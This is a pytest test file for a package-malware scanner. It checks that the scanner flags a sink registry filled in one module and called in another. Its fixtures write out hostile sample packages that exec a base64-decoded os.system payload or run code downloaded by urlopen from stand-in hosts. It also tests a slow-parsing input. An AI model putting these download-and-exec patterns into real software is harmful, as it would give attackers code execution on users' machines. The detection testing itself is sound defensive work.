"""Sink containers filled in one module, called in another (caplet._scan._package_registries).

recall12's last open row, a known miss of issue 16's larger held-out set: ``registry.py``
fills a module-level dict with ``exec`` (through its own ``register`` function, by an
item store, or in the literal), and another module of the package imports the dict and
calls its entry on a decoded or downloaded stage. Each file alone is clean; the
collector joins them once the whole tree is seen (fails on main at 33365dd).
"""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._package_registries import _from_imports, _imported_names
from caplet._scan._scanner import scan_tree
from tests._scan.prefilterkit import tree_both_ways
from tests._scan.scankit import write_tree

_STAGE = base64.b64encode(b"import os; os.system('id')").decode()
_SETUP = 'from setuptools import setup\nsetup(name="pluginz", packages=["pluginz"])\n'

REGISTRIES = {
    "registered": (
        "HANDLERS = {}\n\ndef register(name, fn):\n    HANDLERS[name] = fn\n\n"
        "register('run', exec)\n"
    ),
    "item-store": "import os\nHANDLERS = {}\nHANDLERS['run'] = os.system\n",
    "literal": "HANDLERS = {'run': eval, 'show': print}\n",
}
CALLERS = {
    "relative-index": (
        "import base64\nfrom .registry import HANDLERS\n\n"
        f"HANDLERS['run'](base64.b64decode({_STAGE!r}).decode())\n"
    ),
    "absolute-get": (
        "import base64\nfrom pluginz.registry import HANDLERS as H\n\n"
        f"H.get('run')(base64.b64decode({_STAGE!r}).decode())\n"
    ),
    "downloaded": (
        "import urllib.request\nfrom .registry import HANDLERS\n\n"
        "HANDLERS['run'](urllib.request.urlopen('https://k.recall14.example/s').read().decode())\n"
    ),
}


@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN], ids=lambda m: m.value)
@pytest.mark.parametrize("registry", REGISTRIES.values(), ids=REGISTRIES.keys())
@pytest.mark.parametrize("caller", CALLERS.values(), ids=CALLERS.keys())
def test_a_sink_registry_of_another_module_called_on_a_stage_is_a_threat(
    tmp_path: Path, registry: str, caller: str, mode: ScanMode
) -> None:
    write_tree(
        tmp_path,
        {"setup.py": _SETUP, "pluginz/registry.py": registry, "pluginz/__init__.py": caller},
    )
    report = scan_tree(tmp_path, mode=mode)
    danger = {
        (f.rule_id, f.file)
        for f in report.findings
        if f.severity is Severity.DANGER and f.rule_id in {"CPL-THR-001", "CPL-THR-002"}
    }
    assert danger & {("CPL-THR-001", "pluginz/__init__.py"), ("CPL-THR-002", "pluginz/__init__.py")}


@pytest.mark.parametrize(
    ("registry", "caller"),
    [
        # a registry of the package's own functions called on decoded JSON
        (
            "def create(p):\n    return p\n\nHANDLERS = {'create': create, 'show': print}\n",
            "import base64, json\nfrom .registry import HANDLERS\n\n"
            "msg = json.loads(base64.b64decode(b'e30='))\nHANDLERS[msg['op']](msg)\n",
        ),
        # a registry of exec called on a literal
        (
            "HANDLERS = {'run': exec}\n",
            "from .registry import HANDLERS\n\nHANDLERS['run']('x = 1')\n",
        ),
        # a name of a registry of sinks, imported from a module that holds no such registry
        (
            "HANDLERS = {'run': exec}\n",
            "import base64\nfrom .other import HANDLERS\n\n"
            "HANDLERS['show'](base64.b64decode(b'aGk='))\n",
        ),
    ],
    ids=["own-functions", "literal-code", "same-name-elsewhere"],
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN], ids=lambda m: m.value)
def test_a_registry_that_runs_nothing_decoded_stays_clean(
    tmp_path: Path, registry: str, caller: str, mode: ScanMode
) -> None:
    write_tree(
        tmp_path,
        {
            "setup.py": _SETUP,
            "pluginz/registry.py": registry,
            "pluginz/other.py": "HANDLERS = {'show': print}\n",
            "pluginz/__init__.py": caller,
        },
    )
    report = scan_tree(tmp_path, mode=mode)
    threats = {f.rule_id for f in report.findings if f.rule_id.startswith("CPL-THR-00")}
    assert threats == set()


#: recall16 (recall14's open row): the registry reached as an attribute of its module,
#: imported relatively, absolutely, renamed, or by a dotted ``import``. Clean on main.
MODULE_CALLERS = {
    "relative-module": (
        "import base64\nfrom . import registry\n\n"
        f"registry.HANDLERS['run'](base64.b64decode({_STAGE!r}).decode())\n"
    ),
    "absolute-renamed-get": (
        "import base64\nimport pluginz.registry as reg\n\n"
        f"reg.HANDLERS.get('run')(base64.b64decode({_STAGE!r}).decode())\n"
    ),
    "dotted-import": (
        "import urllib.request\nimport pluginz.registry\n\n"
        "pluginz.registry.HANDLERS['run'](\n"
        "    urllib.request.urlopen('https://k.recall16.example/s').read().decode())\n"
    ),
    "from-package": (
        "import base64\nfrom pluginz import registry as r\n\n"
        f"r.HANDLERS.pop('run')(base64.b64decode({_STAGE!r}))\n"
    ),
}


@pytest.mark.parametrize("registry", REGISTRIES.values(), ids=REGISTRIES.keys())
@pytest.mark.parametrize("caller", MODULE_CALLERS.values(), ids=MODULE_CALLERS.keys())
def test_a_registry_called_as_its_modules_attribute_is_a_threat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, registry: str, caller: str
) -> None:
    write_tree(
        tmp_path,
        {"setup.py": _SETUP, "pluginz/registry.py": registry, "pluginz/api.py": caller},
    )
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert filtered == whole
    assert {(r, f) for r, f, _ in whole} & {
        ("CPL-THR-001", "pluginz/api.py"),
        ("CPL-THR-002", "pluginz/api.py"),
    }
    plugin = scan_tree(tmp_path, mode=ScanMode.PLUGIN)
    assert any(f.file == "pluginz/api.py" and f.rule_id < "CPL-THR-003" for f in plugin.findings)


@pytest.mark.parametrize(
    "caller",
    [
        # the module's container of sinks called on a literal
        "from . import registry\n\nregistry.HANDLERS['run']('x = 1')\n",
        # another module's container of the same name, which holds no sinks
        "import base64\nfrom . import other\n\nother.HANDLERS['show'](base64.b64decode(b'aGk='))\n",
        # an object's attribute of that name, no module at all
        "import base64\n\nclass C:\n    HANDLERS = {'show': print}\n\n"
        "C.HANDLERS['show'](base64.b64decode(b'aGk='))\n",
    ],
    ids=["literal-code", "other-module", "class-attribute"],
)
def test_a_modules_registry_that_runs_nothing_decoded_stays_clean(
    tmp_path: Path, caller: str
) -> None:
    write_tree(
        tmp_path,
        {
            "setup.py": _SETUP,
            "pluginz/registry.py": REGISTRIES["literal"],
            "pluginz/other.py": "HANDLERS = {'show': print}\n",
            "pluginz/api.py": caller,
        },
    )
    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
    assert {f.rule_id for f in report.findings if f.rule_id.startswith("CPL-THR-00")} == set()


# -- from-imports read in one pass (attack25) ------------------------------------------

_OLD_FROM_IMPORT = re.compile(r"\bfrom\s+[\w.]+\s+import\s+(\([^)]*\)|[^\n]+)")


class _Scanned(str):
    """A text that adds up how far each ``find``/``index`` from a position reads."""

    read = 0

    def find(self, sub: str, *args: Any) -> int:
        found = str.find(self, sub, *args)
        type(self).read += (len(self) if found < 0 else found) - (args[0] if args else 0)
        return found

    def index(self, sub: str, *args: Any) -> int:
        found = str.index(self, sub, *args)
        type(self).read += found - (args[0] if args else 0)
        return found


def test_unclosed_from_imports_are_read_once_not_to_the_end_each() -> None:
    # Attack (attack25): the search for a from-import's names tried "(" up to a ")" and, for
    # a "(" none closes, read to the end of the text before it took the line: 8,000 "from a
    # import (" lines (128 KB) took 1.2 s, 2 MiB minutes. Now whether a ")" follows is
    # known from the last one's place, and each line is read once.
    text = _Scanned("from b import (c, d)\n" + "from a import (\n" * 8_000)
    assert _imported_names(text) == {"c": "c", "d": "d"}
    assert list(_from_imports(text)) == ["(c, d)"] + ["("] * 8_000
    assert _Scanned.read <= 2 * len(text)


@given(
    st.lists(
        st.sampled_from(["from", " ", "a", "import", "(", ")", "\n", ",", "b", "x.y", "#", "as"]),
        max_size=16,
    )
)
def test_from_imports_are_the_names_the_search_gave(tokens: list[str]) -> None:
    # the near miss: what each from-import imports, as the search read it (its one other
    # answer, blanks at the very end, imports nothing)
    text = "".join(tokens)
    old = [m.group(1) for m in _OLD_FROM_IMPORT.finditer(text)]
    new = list(_from_imports(text))
    assert new == old or (new == old[:-1] and not old[-1].strip())
